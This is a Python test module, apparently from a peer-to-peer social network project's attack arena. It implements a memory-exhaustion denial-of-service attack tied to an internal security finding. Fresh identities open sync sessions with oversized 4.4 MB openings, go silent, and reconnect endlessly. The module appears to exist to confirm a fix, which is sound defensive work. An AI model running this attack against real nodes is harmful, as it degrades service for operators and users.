"""Sync sessions as a way to make a node hold memory (issue 12, finding 4).

Before: a session's opening was free up to 8 MiB and all of it was kept (about
28 MB of dicts per identity), sessions had no deadline, and every identity left a
row in the address book. Each attacker identity here is fresh (free), opens one
session with the largest opening the victim reads, and then says nothing.
"""

from __future__ import annotations

import os

import trio
from arena import Arena, AttackStats

from p2psocial.net import messages as m
from p2psocial.net.framing import write_frame
from p2psocial.net.host import Host, open_host, peer_id_from_device_id
from p2psocial.net.opening import chunks, explicit

OPENING_ITEMS = 60_000
"""Wanted accounts, and as many clock lines, in one opening: about 4.4 MB."""


def big_opening(version: int, items: int = OPENING_ITEMS) -> list[bytes]:
    """An opening that names ``items`` made-up accounts and logs."""
    wants = [os.urandom(32) for _ in range(items)]
    clock = [(os.urandom(32), 1000) for _ in range(items)]
    if version >= 2:
        return [m.encode(m.Hello(2)), *explicit(wants, clock)[:-1]]  # never "ready"
    return [m.encode(m.Hello(1)), *(m.encode(m.Wants(c)) for c in chunks(wants)),
            *(m.encode(m.Clock(c)) for c in chunks(clock))]


async def hold_a_session(host: Host, place: Arena, frames: list[bytes], version: int,
                         stats: AttackStats) -> None:
    """Open a session, send ``frames``, then hold it silently until cut off."""
    stream = await host.open_stream(peer_id_from_device_id(place.victim.device),
                                    place.victim.multiaddrs, m.PROTOCOL_IDS[version])
    for frame in frames:
        await write_frame(stream, frame)
        stats.sent += len(frame) + 4
    try:
        while data := await stream.read(65536):
            stats.received += len(data)
    except Exception:  # reset or EOF: cut off
        pass


async def fresh_identity(place: Arena, stats: AttackStats, frames: list[bytes],
                         version: int) -> None:
    async with open_host(os.urandom(32)) as host:
        stats.identities += 1
        await hold_a_session(host, place, frames, version, stats)


async def big_silent_openings(place: Arena, stats: AttackStats, at_once: int = 10) -> None:
    """``at_once`` fresh identities at a time, half on each protocol version, each with
    the largest opening and then silence; replaced as the victim cuts them off."""
    openings = {v: big_opening(v) for v in (1, 2)}
    stats.ready.set()
    async with trio.open_nursery() as nursery:
        for i in range(at_once):
            nursery.start_soon(_forever, place, stats, openings, 1 + i % 2)


async def _forever(place: Arena, stats: AttackStats, openings: dict[int, list[bytes]],
                   version: int) -> None:
    while True:
        try:
            await fresh_identity(place, stats, openings[version], version)
        except Exception:  # refused, reset: try again with a new identity
            await trio.sleep(0.1)


ATTACKS = {"big-silent-openings": big_silent_openings}
